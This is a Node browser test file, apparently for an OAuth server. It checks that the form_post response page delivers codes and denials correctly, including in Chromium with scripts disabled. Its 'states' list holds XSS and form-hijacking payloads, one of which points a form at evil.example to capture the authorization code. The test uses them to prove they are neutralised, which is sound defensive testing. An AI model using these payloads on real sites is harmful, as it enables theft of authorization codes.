// The page that posts a response to the client, in Debian's chromium: with and without scripts, to a client that
// redirects on, and with a `state` that somebody wrote to break out of the page.

import assert from 'node:assert/strict'
import { once } from 'node:events'
import { createServer } from 'node:http'
import { after, before, describe, test } from 'node:test'
import * as oauth from 'oauth4webapi'
import { launch } from './browser.js'
import { alice, authorizationRequest, startHost } from './host.js'

const screenshots = new URL('../../../target/screenshots/', import.meta.url).pathname
const native = { client_id: 'native' }
const received = []
let browser, host, client, callback, home

before(async () => {
  host = await startHost('memory')
  // The client's callback keeps what it gets, and sends the browser on to another origin, as many clients do.
  client = createServer(async (request, response) => {
    if (!request.url.startsWith('/callback')) {
      response.setHeader('content-type', 'text/html').end('<!doctype html><title>home</title>Welcome home')
      return
    }
    let body = ''
    for await (const chunk of request) body += chunk
    received.push({ method: request.method, url: request.url, headers: request.headers, body })
    response.writeHead(303, { location: home }).end()
  })
  await once(client.listen(0, '127.0.0.1'), 'listening')
  callback = `http://127.0.0.1:${client.address().port}/callback`
  home = `http://localhost:${client.address().port}/home`
  browser = await launch()
})

after(async () => {
  await browser?.close()
  client?.close()
  await host?.stop()
})

/** Alice opens the request, logs in and presses a button. */
async function decide(page, url, decision) {
  await page.goto(url.href)
  await page.fill('[name=username]', alice.username)
  await page.fill('[name=password]', alice.password)
  await Promise.all([page.waitForEvent('load'), page.click('form button')])
  await page.click(`[name=decision][value=${decision}]`)
}

const states = [
  undefined,
  '"><script>alert(1)</script>',
  '\'"></form><form action="https://evil.example"><input name="code" value="evil',
]

for (const javaScriptEnabled of [true, false]) {
  describe(`in a browser ${javaScriptEnabled ? 'with' : 'without'} scripts`, () => {
    const open = async () => {
      const page = await browser.newPage({ javaScriptEnabled, viewport: { width: 390, height: 844 } })
      page.setDefaultTimeout(30_000)
      const alarms = []
      page.on('dialog', (dialog) => alarms.push(dialog.message()) && dialog.dismiss())
      page.on('console', (message) => {
        if (/Content Security Policy/.test(message.text())) alarms.push(message.text())
      })
      return { page, alarms }
    }

    /** Without a script, the person presses the one button that there is. */
    const goOn = async (page) => {
      if (!javaScriptEnabled) {
        await page.waitForSelector('button:has-text("Continue")')
        assert.equal(await page.locator('button').count(), 1)
        assert(page.url().startsWith(host.server.issuer))
        await page.screenshot({ path: `${screenshots}form-post-phone.png`, fullPage: true })
        await page.click('button')
      }
      await page.waitForURL(home)
      assert.match(await page.innerText('body'), /Welcome home/)
    }

    for (const hostile of states) {
      test(`the code is posted, with ${hostile ? `the state ${hostile}` : 'a usual state'}`, async () => {
        const { page, alarms } = await open()
        const { url, code_verifier, state } = await authorizationRequest(host.server, 'native', callback, 'read')
        url.searchParams.set('response_mode', 'form_post')
        if (hostile) url.searchParams.set('state', hostile)
        await decide(page, url, 'approve')
        await goOn(page)
        const { method, url: path, headers, body } = received.pop()
        assert.equal(received.length, 0, 'it is posted once')
        assert.deepEqual([method, path], ['POST', '/callback'], 'nothing stands in the address')
        assert.equal(headers['content-type'], 'application/x-www-form-urlencoded')
        assert.equal(headers.origin, new URL(host.server.issuer).origin, 'the client sees who posts')
        assert(!headers.referer || !headers.referer.includes('consent'), headers.referer)
        const params = oauth.validateAuthResponse(host.server, native, new URLSearchParams(body), hostile ?? state)
        const response = await oauth.authorizationCodeGrantRequest(host.server, native, oauth.None(), params, callback,
          code_verifier, { [oauth.allowInsecureRequests]: true })
        const tokens = await oauth.processAuthorizationCodeResponse(host.server, native, response)
        assert.equal(tokens.scope, 'read')
        assert.deepEqual(alarms, [])
        await page.close()
      })
    }

    test('a denial is posted too', async () => {
      const { page, alarms } = await open()
      const { url, state } = await authorizationRequest(host.server, 'native', callback, 'read')
      url.searchParams.set('response_mode', 'form_post')
      await decide(page, url, 'deny')
      await goOn(page)
      const { body } = received.pop()
      assert.throws(() => oauth.validateAuthResponse(host.server, native, new URLSearchParams(body), state),
        { error: 'access_denied' })
      assert.deepEqual(alarms, [])
      await page.close()
    })
  })
}
